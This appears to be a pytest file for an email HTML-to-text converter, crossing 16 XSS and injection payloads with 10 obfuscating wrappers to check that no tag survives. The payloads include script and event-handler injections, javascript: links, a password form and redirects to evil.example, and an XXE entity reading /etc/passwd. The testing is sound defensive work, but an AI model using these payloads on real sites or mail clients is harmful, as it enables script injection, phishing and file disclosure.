"""What people put into HTML to make it run somewhere: nothing of it is a tag afterwards."""

import re
from itertools import product

import pytest

from channels.email.html import to_text
from tests.channels.email.mail_samples import mail, message

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script_source": '<script src="https://evil.example/x.js"></script>',
    "image_handler": '<img src=x onerror="alert(1)">',
    "image_remote": '<img src="https://evil.example/pixel.gif" width=1>',
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(2)></svg>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "link_script": '<a href="javascript:alert(1)">click</a>',
    "link_data": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "style": "<style>@import 'https://evil.example/x.css'; a{behavior:url(x)}</style>",
    "object": '<object data="data:text/html;base64,PHNjcmlwdD4="></object><embed src=x>',
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "body": "<body onload=alert(1) background=javascript:alert(1)>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="//evil.example/">',
    "form": '<form action="https://evil.example/"><input name=password><button formaction=x>Go</button></form>',
    "conditional": "<!--[if gte mso 9]><script>alert(1)</script><![endif]--><![if !mso]><b>x</b><![endif]>",
    "declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><?xml version='1.0'?><?php echo 1 ?>",
}
WRAPPERS = {
    "plain": "Hi {}.",
    "upper": "Hi {upper}.",
    "inside_itself": "Hi <scr<script></script>ipt>{}</scr<script></script>ipt>.",
    "after_a_bracket": "Hi <<b></b>{}<</b>img src=x>.",
    "around_a_comment": "Hi <im<!-- -->g src=x onerror=y>{}<!-- <b> -->.",
    "in_an_attribute": "Hi <img alt='{}' title=\"<b>\">.",
    "in_an_open_attribute": 'Hi <p title="{}>.',
    "unclosed": "Hi. {}<b",
    "in_a_hidden_element": "Hi <noscript>{}</noscript><textarea>{}</textarea><xmp>{}</xmp>.",
    "with_controls": "Hi <\x00b>{}</\x0bb>\u200b<\u200bb>.",
}
VECTORS = {
    f"{name}-{way}": (payload, wrapper)
    for (name, payload), (way, wrapper) in product(PAYLOADS.items(), WRAPPERS.items())
}
TAG = re.compile(r"<[a-zA-Z/!?]")


def wrapped(payload: str, wrapper: str) -> str:
    return wrapper.replace("{upper}", payload.upper()).replace("{}", payload)


def test_there_are_150_vectors() -> None:
    assert len(VECTORS) >= 150


@pytest.mark.parametrize("name", VECTORS)
def test_no_tag_is_left_and_what_was_said_is(name: str) -> None:
    body = message(mail(wrapped(*VECTORS[name]), Content_Type="text/html; charset=utf-8")).body
    assert TAG.findall(body) == []
    assert body.startswith("Hi")


def test_nothing_joins_to_a_tag_however_often_it_is_read() -> None:
    html = "".join(wrapped(*each) for each in VECTORS.values())
    assert TAG.findall(to_text(html)) == []
    assert TAG.findall(to_text(to_text(html))) == []


def test_a_tag_that_somebody_writes_about_stays_what_they_wrote() -> None:
    assert to_text("Use &lt;b&gt; for bold, if a &lt; b or 1 < 2.") == "Use <b> for bold, if a < b or 1 < 2."
